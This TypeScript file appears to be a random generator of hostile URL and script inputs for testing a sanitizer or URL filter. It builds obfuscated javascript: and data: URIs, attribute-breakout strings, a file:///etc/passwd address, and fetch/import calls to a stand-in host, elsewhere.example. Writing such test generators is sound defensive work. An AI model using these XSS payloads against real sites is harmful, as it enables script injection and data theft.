import type { Random } from './Random';

/** Where nothing may ask for anything. */
const ELSEWHERE = 'elsewhere.example';

export type Draw = (random: Random) => string;

export const RUN: Draw = (random) =>
  random.pick([
    'top.ran=1',
    'window.ran=1',
    'self[`ran`]=1',
    'alert(1)',
    'top.ran=1;print()',
    'fetch(`https://elsewhere.example/f`)',
    'import(`https://elsewhere.example/m`)',
    'location=`https://elsewhere.example/l`',
    'document.write(`<script>top.ran=1<\\/script>`)',
    '&#116;op.ran=1',
    '\\u0074op.ran=1',
  ]);

export const AWAY: Draw = (random) => {
  const path = `${random.pick(['//', 'https://', 'http://', 'https:\\\\', 'HTTPS://', 'ftp://', 'ws://'])}${ELSEWHERE}`;
  return `${path}/${random.below(1e6)}`;
};

/** An address that is a script, as browsers read through its disguise. */
export const SCRIPT_ADDRESS: Draw = (random) => {
  const run = RUN(random);
  const scheme = random.pick(['javascript', 'vbscript', 'livescript', 'JaVaScRiPt']);
  return random.pick<Draw>([
    () => `${scheme}:${run}`,
    () => `\u0001 ${scheme}:${run}`,
    () => `${scheme.slice(0, 4)}&#9;${scheme.slice(4)}&colon;${run}`,
    () => `${scheme.slice(0, 3)}&NewLine;${scheme.slice(3)}:${run}`,
    () => [...scheme].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('') + `&#58;${run}`,
    () => [...scheme].map((letter) => `&#0000${letter.charCodeAt(0)}`).join('') + `:${run}`,
    () => `${scheme}\u0000:${run}`,
    () => `${scheme}://%0a${run}`,
    () => `data:text/html,<script>${run}</script>`,
    () => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
    () => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
    () => `data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
    () => `view-source:${scheme}:${run}`,
    () => `feed:${scheme}:${run}`,
    () => `blob:https://${ELSEWHERE}/1`,
    () => `file:///etc/passwd`,
    () => `https://good.example\\@${ELSEWHERE}/`,
    () => `https://good.example/"onmouseover="${run}`,
    () => `https://good.example/'><script>${run}</script>`,
    () => `mailto:a@b.example?body="><script>${run}</script>`,
  ])(random);
};

export const ADDRESS: Draw = (random) => random.pick([SCRIPT_ADDRESS, AWAY])(random);
